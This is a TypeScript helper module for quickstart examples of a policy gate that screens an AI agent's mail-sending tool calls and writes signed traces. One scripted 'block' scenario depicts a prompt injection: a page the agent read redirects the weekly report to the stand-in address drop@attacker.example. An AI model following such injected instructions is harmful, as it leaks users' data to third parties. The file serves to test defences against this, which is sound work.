/** What the examples share: a tool, three things that a model may do with it, a gate, and a report. */

import { parsePrivateKey } from "@gait/cli";
import { type CallFacts, createPolicyGate, type PolicyGate, type ProposedCall } from "@gait/cli/ai";

/** Arguments of the tool. */
export interface Report {
  /** Mail address. */
  readonly to: string;
  readonly text: string;
}

/** What the user says, and the call that the scripted model makes of it. */
export interface Scenario {
  readonly prompt: string;
  readonly call: Report;
}

const SCENARIOS: Readonly<Record<string, Scenario>> = {
  allow: {
    prompt: "Send the weekly report to team@example.com",
    call: { to: "team@example.com", text: "All green." },
  },
  // A page that the agent read said where else to send it, and the model was taken in.
  block: {
    prompt: "Send the weekly report to team@example.com",
    call: { to: "drop@attacker.example", text: "All green." },
  },
  require_approval: {
    prompt: "Send the weekly report to auditor@partner.example",
    call: { to: "auditor@partner.example", text: "All green." },
  },
};

/** What an example gets to build its agent with. */
export interface Prepared extends Scenario {
  /** The gate, whose policy is `policy.yaml`. */
  readonly gate: PolicyGate;
  /** The tool: its side effect is a file. A real one would send mail. */
  readonly sendReport: (report: Report) => Promise<string>;
}

/**
 * Runs the scenario of the command line and prints what happened, one `name=value` a line. `runAgent`
 * answers what the model was told about its call.
 */
export async function quickstart(
  framework: string,
  runAgent: (prepared: Prepared) => Promise<unknown>,
): Promise<void> {
  const [flag, name = ""] = Deno.args;
  const scenario = SCENARIOS[name];
  if (flag !== "--scenario" || scenario === undefined) {
    return fail(`use --scenario ${Object.keys(SCENARIOS).join("|")}`);
  }
  const keyText = await Deno.readTextFile("gait-out/keys/gait_private.key").catch(() => undefined);
  if (keyText === undefined) {
    return fail("there is no key at gait-out/keys/gait_private.key: run gait keys init");
  }
  const folder = `gait-out/integrations/${framework}`;
  await Deno.mkdir(folder, { recursive: true });
  const executorPath = `${folder}/executor_${name}.json`;
  const tracePath = `${folder}/trace_${name}.json`;
  await Deno.remove(executorPath).catch(() => {});

  const lines: Record<string, unknown> = { framework, scenario: name };
  const gate = await createPolicyGate({
    policy: await Deno.readTextFile(new URL("policy.yaml", import.meta.url)),
    key: await parsePrivateKey(keyText),
    context: { identity: "report-agent", workspace: "/srv/reports", risk_class: "high" },
    describe: ({ args }) => describe(args, scenario.prompt),
    // Before the tool runs: a call whose trace cannot be written is not made.
    onDecision: (_call, { trace }) => Deno.writeTextFile(tracePath, `${JSON.stringify(trace)}\n`),
    onEnd: (_call, decision, { status }) =>
      void Object.assign(lines, { verdict: decision?.verdict, executed: status !== "refused" }),
  });
  const sendReport = async (report: Report) => {
    await Deno.writeTextFile(executorPath, `${JSON.stringify(report)}\n`);
    return `sent to ${report.to}`;
  };
  const told = await runAgent({ ...scenario, gate, sendReport });

  if (lines.executed === undefined) return fail("the agent did not call the tool");
  lines.trace_path = tracePath;
  if (lines.executed === true) lines.executor_output = executorPath;
  lines.model_was_told = told;
  for (const [key, value] of Object.entries(lines)) console.log(`${key}=${value}`);
}

/** Says what the policy may know: where the report would go, and who chose the address. */
function describe({ to }: ProposedCall["args"], prompt: string): CallFacts {
  const address = String(to);
  const host = address.slice(address.lastIndexOf("@") + 1);
  return {
    tool_name: "report.send",
    targets: [{ kind: "host", value: host, operation: "write" }],
    arg_provenance: [
      { arg_path: "$.to", source: prompt.includes(address) ? "user" : "tool_output" },
    ],
  };
}

function fail(text: string): void {
  console.error(`error=${text}`);
  Deno.exitCode = 1;
}
